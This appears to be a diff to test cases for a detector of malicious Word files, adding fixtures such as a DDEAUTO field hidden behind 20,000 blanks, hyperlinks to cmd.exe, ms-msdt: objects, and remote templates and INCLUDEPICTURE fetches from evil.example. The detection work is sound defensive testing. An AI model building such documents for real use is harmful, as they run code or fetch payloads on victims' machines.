@@ -222,6 +222,12 @@ const remote = "http://evil.example/t.dotm";
 
 const hidden = under("a.docx", [
   [
+    "a DOCX whose footer begins after many blanks",
+    () => wordFile({ "word/footer1.xml": `${" ".repeat(20_000)}<w:ftr>${field(run(dde("DDEAUTO")))}</w:ftr>` }, 40_000),
+    wrong,
+    starts,
+  ],
+  [
     "a DOCX with a template of the web whose address looks like a mode",
     () => templates(`<Relationship ${template} Target="${remote}?a TargetMode='Internal'" TargetMode="External"/>`),
     wrong,
@@ -290,6 +296,18 @@ const links = under("a.docx", [
     wrong,
     starts,
   ],
+  [
+    "a DOCX with a link to a program and a place in it",
+    () => linking(["hyperlink", "file:///C:/Windows/System32/cmd.exe#a"]),
+    wrong,
+    starts,
+  ],
+  [
+    "a DOCX with a link to a program beside it",
+    () => linking(["hyperlink", "..\\..\\Windows\\System32\\cmd.exe"]),
+    wrong,
+    starts,
+  ],
   ["a DOCX with an object of a tool", () => linking(["oleObject", "ms-msdt:/id x"]), wrong, fetches],
 ]);
 
@@ -320,6 +338,13 @@ const old = under("a.doc", [
     fetches,
   ],
   ["a DOC with a link to a tool", () => withField('HYPERLINK "ms-msdt:/id x"', "utf16le"), wrong, link],
+  [
+    "a DOC with a picture of the web behind a letter that ends like a field",
+    () => withField(' INCLUDEPICTURE \\c "क" "http://evil.example/a"', "utf16le"),
+    wrong,
+    fetches,
+  ],
+  ["a DOC with a control", () => docFile({ "/ObjectPool/_1/\u0003OCXNAME": 100 }), wrong, starts],
   ["a DOC with a template of the web", () => ofTemplate("https://evil.example/a.dotm"), wrong, fetches],
   ["a DOC with a template of a share", () => ofTemplate("\\\\server\\share\\a.dot"), wrong, fetches],
   [
